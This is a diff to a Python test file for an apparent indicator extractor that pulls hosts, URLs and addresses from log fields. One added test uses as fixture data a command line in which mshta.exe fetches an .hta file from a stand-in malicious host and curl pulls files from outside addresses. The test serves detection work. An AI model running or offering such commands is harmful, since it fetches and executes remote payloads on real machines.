@@ -28,6 +28,21 @@ def test_of_a_path_the_name_counts_and_of_several_values_each() -> None:
     }
 
 
-@given(st.dictionaries(st.sampled_from(("mail_from", "filename", "src_ip", "url")), st.text() | st.tuples(st.text())))
+def test_what_a_command_fetches_from_outside_is_a_trace_and_its_host_too() -> None:
+    command = r'mshta.exe "http://User:pw@Dl.Bad.example:8080/a.hta" & curl http://203.0.113.7/b http://10.0.0.9/c http://nas/d'
+
+    assert traces_of({"CommandLine": command}) == {
+        Trace(TraceKind.HOST, "dl.bad.example"),
+        Trace(TraceKind.URL, "http://user:pw@dl.bad.example:8080/a.hta"),
+        Trace(TraceKind.ADDRESS, "203.0.113.7"),
+        Trace(TraceKind.URL, "http://203.0.113.7/b"),
+    }
+
+
+@given(
+    st.dictionaries(
+        st.sampled_from(("mail_from", "CommandLine", "filename", "src_ip", "url")), st.text() | st.tuples(st.text())
+    )
+)
 def test_whatever_fields_hold_is_read(fields: dict[str, str | tuple[str, ...]]) -> None:
     assert all(trace.value and len(trace.value) <= 400 for trace in traces_of(fields))
